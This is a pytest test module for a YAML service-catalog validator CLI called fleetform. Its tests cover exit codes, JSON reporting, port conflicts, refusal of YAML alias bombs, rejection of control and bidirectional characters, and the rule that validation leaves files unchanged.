        "    runtime: node\n    port: 3000\n"
    )
    (where / "repo_100kb.yaml").write_text(text, encoding="utf-8")
    return "repo_100kb.yaml"


def _missing_file(where: Path) -> str:
    return "missing.yaml"


def _directory(where: Path) -> str:
    (where / "catalog.d").mkdir()
    return "catalog.d"


BUILT: dict[str, Callable[[Path], str]] = {
    "non_utf8": _non_utf8,
    "binary_nul": _binary_nul,
    "random_bytes_1mb": _random_bytes_1mb,
    "random_text_1mb": _random_text_1mb,
    "too_large": _too_large,
    "alias_bomb": _alias_bomb,
    "repo_100kb": _repo_100kb,
    "missing_file": _missing_file,
    "directory": _directory,
}


# ------------------------------------------------------------------ running a case

_LINE = re.compile(
    r"^(?P<path>.+?)(?::(?P<line>[0-9]+):(?P<col>[0-9]+))?: (?P<severity>error|warning): (?P<message>.*)$"
)


def parse_line(text: str) -> dict[str, object]:
    """A problem line as the JSON reporter gives it (no position: line and col null)."""
    match = _LINE.match(text)
    assert match, f"not a problem line: {text!r}"
    return {
        "path": match["path"],
        "line": int(match["line"]) if match["line"] else None,
        "col": int(match["col"]) if match["col"] else None,
        "severity": match["severity"],
        "message": match["message"],
    }


def summary(subject: str, lines: list[str]) -> str:
    errors = sum(parse_line(line)["severity"] == "error" for line in lines)
    if not lines:
        return f"{subject}: ok"
    return f"{subject}: {errors} error(s), {len(lines) - errors} warning(s)"


def snapshot(root: Path) -> dict[str, tuple[bool, int, int]]:
    """Every path under root with its kind, size and modification time."""
    return {
        str(p.relative_to(root)): (p.is_dir(), p.stat().st_size, p.stat().st_mtime_ns)
        for p in sorted(root.rglob("*"))
    }


@pytest.fixture
def corpus(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the corpus in tmp_path, and the working directory for the command."""
    where = tmp_path / "corpus"
    shutil.copytree(CORPUS, where)
    monkeypatch.chdir(where)
    return where


def prepare(case: str, where: Path) -> str:
    """The catalog argument for a case: a corpus file, or an input built now."""
    if case in BUILT:
        return BUILT[case](where)
    return f"{case}.yaml"


def shown(result: Result) -> str:
    return f"exit {result.exit_code}\nstdout:\n{result.stdout}\nstderr:\n{result.stderr}"


# ------------------------------------------------------------------ the tests


def test_every_corpus_file_has_an_expected_outcome() -> None:
    files = {p.stem for p in CORPUS.glob("*.yaml")}
    assert files == set(CASES) - set(BUILT), "corpus files and CASES must match one to one"
    assert len(CASES) >= 30


@pytest.mark.parametrize("case", sorted(CASES))
def test_validate_reports_exactly(case: str, corpus: Path, tmp_path: Path) -> None:
    exit_code, lines = CASES[case]
    catalog = prepare(case, corpus)
    before = snapshot(tmp_path)

    result = fleetform("validate", "-c", catalog)

    expected = list(lines)
    if exit_code in (OK, PROBLEMS):
        expected.append(summary(catalog, lines))
    assert "Traceback" not in result.output
    assert result.output.splitlines() == expected, shown(result)
    assert result.exit_code == exit_code, shown(result)
    assert snapshot(tmp_path) == before, "validate must not create or change any file"


PORT_CASES = sorted(case for case, (code, _) in CASES.items() if code == PROBLEMS)


@pytest.mark.parametrize("case", PORT_CASES)
def test_ports_check_reports_the_same_port_problems(case: str, corpus: Path) -> None:
    _, lines = CASES[case]
    result = fleetform("ports", "check", "-c", f"{case}.yaml")
    assert "Traceback" not in result.output
    assert result.output.splitlines() == [*lines, summary("ports", lines)], shown(result)
    assert result.exit_code == PROBLEMS


@pytest.mark.parametrize(
    "case",
    ["all_three_kinds", "unknown_group_and_duplicate_port", "group_range_reversed_and_conflict"],
)
def test_ports_check_reports_every_problem_of_an_invalid_catalog(case: str, corpus: Path) -> None:
    """`ports check` runs the same checks as `validate`: an invalid catalog is exit 2 with
    every problem, its port conflicts among them."""
    _, lines = CASES[case]
    result = fleetform("ports", "check", "-c", f"{case}.yaml")
    assert "Traceback" not in result.output
    assert result.output.splitlines() == lines, shown(result)
    assert result.exit_code == BAD_INPUT


def test_every_problem_line_has_a_position_when_there_is_a_file() -> None:
    """The table itself keeps the promise: PATH:LINE:COL on every line about a real file."""
    for case, (_, lines) in CASES.items():
        for line in lines:
            problem = parse_line(line)
            if case not in ("missing_file", "directory"):
                assert problem["line"] >= 1 and problem["col"] >= 1, line


@pytest.mark.parametrize(
    "case",
    [
        "duplicate_key",
        "many_errors",
        "extra_port_collision",
        "unnecessary_port_exception",
        "all_three_kinds",
    ],
)
def test_json_gives_the_same_problems(case: str, corpus: Path, tmp_path: Path) -> None:
    exit_code, lines = CASES[case]
    catalog = prepare(case, corpus)
    before = snapshot(tmp_path)
    result = fleetform("validate", "-c", catalog, "--format", "json")
    assert "Traceback" not in result.output
    assert result.exit_code == exit_code, shown(result)
    assert result.stderr == "", "JSON output must be the only output"
    payload = json.loads(result.stdout)
    problems = [parse_line(line) for line in lines]
    errors = sum(p["severity"] == "error" for p in problems)
    assert payload == {
        "ok": errors == 0,
        "errors": errors,
        "warnings": len(problems) - errors,
        "problems": problems,
    }
    assert snapshot(tmp_path) == before


def test_alias_bomb_is_refused_before_it_is_expanded(corpus: Path) -> None:
    """18 levels of 9 aliases stand for 9**18 strings; refusing must not walk them.

    A walk would not end in any lifetime, so the process gets a CPU-time limit (60 s, a
    hundred times what refusing takes) that turns such a walk into a kill, not a hung test."""
    (corpus / "deeper.yaml").write_text(alias_bomb_text(levels=18), encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "generator", "validate", "-c", "deeper.yaml"],
        cwd=corpus,
        capture_output=True,
        text=True,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CPU, (60, 60)),
        check=False,
    )
    assert result.returncode == BAD_INPUT, result.stderr
    assert "alias bomb" in result.stdout + result.stderr


def test_an_unquoted_date_is_kept_as_the_text_written() -> None:
    catalog = open_catalog(CORPUS / "timestamp_for_string.yaml").catalog
    assert catalog.services["api"].description == "2025-09-29"


def test_a_few_aliases_are_fine(corpus: Path) -> None:
    """The bomb guard must not refuse ordinary anchors and aliases."""
    (corpus / "anchors.yaml").write_text(
        "version: 1\nname: demo\ngroups:\n  apps: {ports: '3000-3099', cluster: services}\n"
        "services:\n"
        "  api: {group: apps, runtime: node, port: 3000, autoscaling: &scaling {min: 2, max: 4}}\n"
        "  worker: {group: apps, runtime: python, port: 3001, autoscaling: *scaling}\n",
        encoding="utf-8",
    )
    result = fleetform("validate", "-c", "anchors.yaml")
    assert result.exit_code == OK, shown(result)


# ------------------------------------------------------------------ text, every character


# Each character the free-text rule refuses (generator/catalog/text.py): C0, DEL and C1
# controls, zero-width characters, bidirectional overrides and isolates.
FORBIDDEN = [
    *range(0x00, 0x20),
    *range(0x7F, 0xA0),
    *range(0x200B, 0x200E),
    0x2060,
    *range(0x202A, 0x202F),
    *range(0x2066, 0x206A),
    0xFEFF,
]

# Every place a catalog carries text into files (and one id), each given the character {c}
# as a YAML escape, so the file itself stays plain text.
TEXT_PLACES = """\
version: 1
name: demo
description: "the demo platform{c}"
template: {{src: "/srv/fleetform{c}", ref: "v1.0.0{c}"}}
defaults: {{owner: "platform{c} team"}}
groups:
  apps: {{ports: "3000-3099", cluster: services, description: "apps{c}"}}
  data: {{ports: "6000-6099", cluster: core}}
services:
  api: {{group: apps, runtime: node, port: 3000, description: "api{c}", owner: "api{c} team"}}
  worker: {{group: apps, runtime: python, port: 3001, depends_on: ["api{c}"]}}
  db:
    group: data
    runtime: image
    image: postgres:16-alpine
    port: 5432
    port_exception: "legacy{c} clients"
    command: [postgres, "-c{c}"]
    health: {{command: [pg_isready, "-q{c}"]}}
profiles:
  dev: {{description: "dev{c}", services: [api]}}
"""
PLACES = [
    "description",
    "template.src",
    "template.ref",
    "defaults.owner",
    "groups.apps.description",
    "services.api.description",
    "services.api.owner",
    "services.worker.depends_on[0]",
    "services.db.port_exception",
    "services.db.command[1]",
    "services.db.health.command[1]",
    "profiles.dev.description",
]


def yaml_escape(code: int) -> str:
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


@pytest.mark.parametrize("code", FORBIDDEN, ids=lambda code: f"U+{code:04X}")
def test_every_forbidden_character_is_named_in_every_text(
    code: int, corpus: Path, tmp_path: Path
) -> None:
    (corpus / "chars.yaml").write_text(TEXT_PLACES.format(c=yaml_escape(code)), encoding="utf-8")
    before = snapshot(tmp_path)
    result = fleetform("validate", "-c", "chars.yaml")
    lines = result.output.splitlines()
    assert "Traceback" not in result.output
    assert result.exit_code == BAD_INPUT, shown(result)
    places = [str(parse_line(line)["message"]).split(": ")[0] for line in lines]
    assert places == PLACES, shown(result)
    for line in lines:
        assert f"U+{code:04X} (" in line, line
    assert snapshot(tmp_path) == before


ACCEPTED = sorted(case for case, (code, _) in CASES.items() if code in (OK, PROBLEMS))


@pytest.mark.parametrize(
    "catalog",
    [
        *(CORPUS / f"{case}.yaml" for case in ACCEPTED),
        *EXAMPLES,
        BUNDLED_CATALOG,
        FIXTURES / "edge-catalog.yaml",
    ],
    ids=lambda path: path.name,
)
def test_the_answers_accept_what_validate_accepts(catalog: Path) -> None:
    """`validate` applies every rule `generate` does: no answer is refused after it passed."""
    opened = open_catalog(catalog)
    for service in opened.catalog.generated_services():
        service_answers(opened.catalog, service.id)


# ------------------------------------------------------------------ the installed command


def fleetform_script() -> str:
    script = Path(sys.executable).with_name("fleetform")
    found = str(script) if script.exists() else shutil.which("fleetform")
    assert found, "the fleetform console script is not installed in this environment"
    return found


@pytest.mark.parametrize(
    ("case", "exit_code"),
    [
        ("udp_and_tcp_same_port", OK),
        ("seed000_literal", PROBLEMS),
        ("dependency_cycle", BAD_INPUT),
        ("duplicate_key", BAD_INPUT),
        ("missing_file", BAD_INPUT),
    ],
)
def test_console_script_exit_codes(case: str, exit_code: int, corpus: Path, tmp_path: Path) -> None:
    assert CASES[case][0] == exit_code
    catalog = prepare(case, corpus)
    before = snapshot(tmp_path)
    done = subprocess.run(
        [fleetform_script(), "validate", "-c", catalog],
        cwd=corpus,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    output = done.stdout + done.stderr
    assert "Traceback" not in output
    assert done.returncode == exit_code, output
    assert snapshot(tmp_path) == before
